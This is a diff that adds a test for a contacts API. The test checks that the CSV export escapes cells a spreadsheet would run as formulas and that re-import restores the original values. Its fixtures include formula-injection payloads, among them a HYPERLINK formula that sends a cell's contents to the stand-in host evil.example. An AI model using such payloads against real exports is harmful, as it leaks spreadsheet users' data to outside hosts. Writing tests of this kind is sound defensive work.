@@ -723,3 +723,81 @@ test('export: NDJSON and CSV with the list filters, streamed, and both import ba
     assert.deepEqual([twice.body.created, twice.body.updated, twice.body.skipped], [0, 0, 3]);
   }
 });
+
+/** The cells of a CSV text's rows (RFC 4180 quoting), for reading an export as a spreadsheet would. */
+function csvCells(text: string): string[][] {
+  const rows: string[][] = [];
+  let row: string[] = [];
+  let cell = '';
+  let quoted = false;
+  for (let i = 0; i < text.length; i++) {
+    const ch = text[i]!;
+    if (quoted && ch === '"' && text[i + 1] === '"') {
+      cell += '"';
+      i++;
+    } else if (ch === '"') quoted = !quoted;
+    else if (quoted) cell += ch;
+    else if (ch === ',') {
+      row.push(cell);
+      cell = '';
+    } else if (ch === '\r' && text[i + 1] === '\n') {
+      row.push(cell);
+      rows.push(row);
+      row = [];
+      cell = '';
+      i++;
+    } else cell += ch;
+  }
+  return rows;
+}
+
+test('CSV export: a cell a spreadsheet would run as a formula is written as text, and imports back as it was', async (t) => {
+  const { s, token } = await buildAsOwner(t);
+  // Names and emails can come from a webhook's sender (create-on-miss, update_contact).
+  const hostile = [
+    { email: '=cmd@example.com', firstName: '=HYPERLINK("http://evil.example/?"&A1,"Open")', lastName: '@SUM(1+1)', tags: ['=tag', 'vip'] },
+    { email: 'minus@example.com', phone: '+16135550101', firstName: '-2+3', lastName: "'=already quoted" },
+    { email: 'apostrophe@example.com', firstName: "'t Hooft", lastName: '+Plus', tags: ['-x'] },
+  ];
+  for (const body of hostile) {
+    const res = await s.request('POST', '/contacts', { token, body });
+    assert.equal(res.status, 201, res.text);
+  }
+  const dump = await s.request('GET', '/contacts/export?format=csv', { token });
+  assert.equal(dump.status, 200, dump.text);
+  const [header, ...rows] = csvCells(dump.text);
+  assert.equal(header!.join(','), 'id,email,phone,firstName,lastName,tags,attributes,createdAt,updatedAt');
+  assert.equal(rows.length, 3);
+  for (const row of rows)
+    for (const cell of row) assert.ok(!/^[=+\-@\t\r]/.test(cell) || /^[+-]\d+$/.test(cell), `the cell ${JSON.stringify(cell)} would run as a formula`);
+  const cells = rows.flat();
+  for (const expected of [
+    "'=cmd@example.com",
+    `'=HYPERLINK("http://evil.example/?"&A1,"Open")`,
+    "'@SUM(1+1)",
+    "'=tag;vip",
+    "'-2+3",
+    "''=already quoted",
+    "'t Hooft",
+    "'+Plus",
+    "'-x",
+    '+16135550101',
+  ])
+    assert.ok(cells.includes(expected), `${expected} in ${JSON.stringify(cells)}`);
+
+  // Into another workspace: every value as it was stored, the apostrophes of the export gone.
+  const target = await s.otherWorkspace();
+  const back = await importText(s, target.token, dump.text, CSV);
+  assert.equal(back.status, 200, back.text);
+  assert.deepEqual([back.body.created, back.body.errorCount], [3, 0], back.text);
+  const shape = (c: any) => ({ email: c.email, phone: c.phone, firstName: c.firstName, lastName: c.lastName, tags: [...c.tags].sort() });
+  const byEmail = (list: any[]) => list.map(shape).sort((a, b) => a.email.localeCompare(b.email));
+  assert.deepEqual(byEmail(await contactsOf(s, target.token)), byEmail(await contactsOf(s, token)));
+
+  // A spreadsheet's user keeps a phone's + with a leading apostrophe: the number is imported.
+  const typed = await importText(s, target.token, "email,phone,firstName\r\nsheet@example.com,'+16135550188,'=1+1\r\n", CSV);
+  assert.equal(typed.status, 200, typed.text);
+  assert.deepEqual([typed.body.created, typed.body.errorCount], [1, 0], typed.text);
+  const sheet = (await s.request('GET', '/contacts?email=sheet@example.com', { token: target.token })).body.data[0];
+  assert.deepEqual([sheet.phone, sheet.firstName], ['+16135550188', '=1+1']);
+});
